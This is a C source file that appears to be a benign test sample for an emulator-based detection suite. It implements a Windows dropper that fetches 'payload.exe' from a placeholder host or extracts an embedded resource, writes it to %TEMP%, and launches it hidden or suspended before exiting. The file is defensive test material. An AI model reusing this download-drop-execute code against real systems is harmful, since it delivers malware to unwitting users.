/*
 * launcher.c - generality suite: drop a program and start it as a new process (benign,
 * emulator-only; see ../../lineage-common/common.h). One source, three delivery paths:
 *
 *   FROM_NETWORK   WinINet GET http://updates.example-cdn.net/v1/payload.exe -> %TEMP%\payload.exe
 *   FROM_RESOURCE  the launcher's own RCDATA resource 101 -> %TEMP%\helper.exe
 * then started with
 *   START_CREATE     CreateProcessA(NULL, "\"PATH\" --child", ...)
 *   START_WINEXEC    WinExec("\"PATH\" --child", SW_HIDE)
 *   START_SUSPENDED  CreateProcessA(PATH, "\"PATH\" --child", CREATE_SUSPENDED), then ResumeThread
 * and the launcher exits (ExitProcess(0)) without waiting for it.
 * Exit codes: 0 ok, 1 no marker, 2 network / resource, 3 file, 4 start, 5 resume.
 */
#include "common.h"
#ifdef FROM_NETWORK
#include <wininet.h>
#define DROPPED "payload.exe"
#else
#define DROPPED "helper.exe"
#define PAYLOAD_RESOURCE 101
#endif

static unsigned char g_body[0x10000];

static DWORD fetch(void)
{
    DWORD total = 0;
#ifdef FROM_NETWORK
    HINTERNET net, url;
    DWORD got;
    net = InternetOpenA("Mozilla/5.0 (compatible; chainreplay-demo)", INTERNET_OPEN_TYPE_PRECONFIG, 0, 0, 0);
    if (!net)
        return 0;
    url = InternetOpenUrlA(net, "http://updates.example-cdn.net/v1/payload.exe", 0, 0, INTERNET_FLAG_RELOAD, 0);
    if (!url)
        return 0;
    while (total < sizeof(g_body) && InternetReadFile(url, g_body + total, sizeof(g_body) - total, &got) && got)
        total += got;
    InternetCloseHandle(url);
    InternetCloseHandle(net);
#else
    HRSRC found = FindResourceA(0, MAKEINTRESOURCEA(PAYLOAD_RESOURCE), (LPCSTR)RT_RCDATA);
    const unsigned char *data;
    DWORD i;
    if (!found)
        return 0;
    total = SizeofResource(0, found);
    data = (const unsigned char *)LockResource(LoadResource(0, found));
    if (!data || total > sizeof(g_body))
        return 0;
    for (i = 0; i < total; i++)
        g_body[i] = data[i];
#endif
    return total;
}

void Entry(void)
{
    static char path[MAX_PATH + 16];
    static char cmd[MAX_PATH + 48];
    DWORD total, n, written, i;
    HANDLE f;

    if (!marker_present())
        ExitProcess(1);
    total = fetch();
    if (total < 0x200)
        ExitProcess(2);
    n = GetTempPathA(MAX_PATH, path);
    if (n == 0 || n > MAX_PATH)
        ExitProcess(3);
    if (path[n - 1] != '\\')
        path[n++] = '\\';
    copy_str(path + n, DROPPED, 16);
    f = CreateFileA(path, GENERIC_WRITE, 0, 0, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, 0);
    if (f == INVALID_HANDLE_VALUE || !WriteFile(f, g_body, total, &written, 0))
        ExitProcess(3);
    CloseHandle(f);
    cmd[0] = '"';
    copy_str(cmd + 1, path, MAX_PATH);
    for (i = 1; cmd[i]; i++)
        ;
    copy_str(cmd + i, "\" --child", 16);
#ifdef START_WINEXEC
    if (WinExec(cmd, SW_HIDE) <= 31)
        ExitProcess(4);
#else
    {
        STARTUPINFOA si;
        PROCESS_INFORMATION pi;
        for (i = 0; i < sizeof(si); i++)
            ((unsigned char *)&si)[i] = 0;
        si.cb = sizeof(si);
#ifdef START_SUSPENDED
        if (!CreateProcessA(path, cmd, 0, 0, FALSE, CREATE_SUSPENDED, 0, 0, &si, &pi))
            ExitProcess(4);
        if (ResumeThread(pi.hThread) != 1)
            ExitProcess(5);
#else
        if (!CreateProcessA(0, cmd, 0, 0, FALSE, 0, 0, 0, &si, &pi))
            ExitProcess(4);
#endif
        CloseHandle(pi.hThread);
        CloseHandle(pi.hProcess);
    }
#endif
    ExitProcess(0);
}
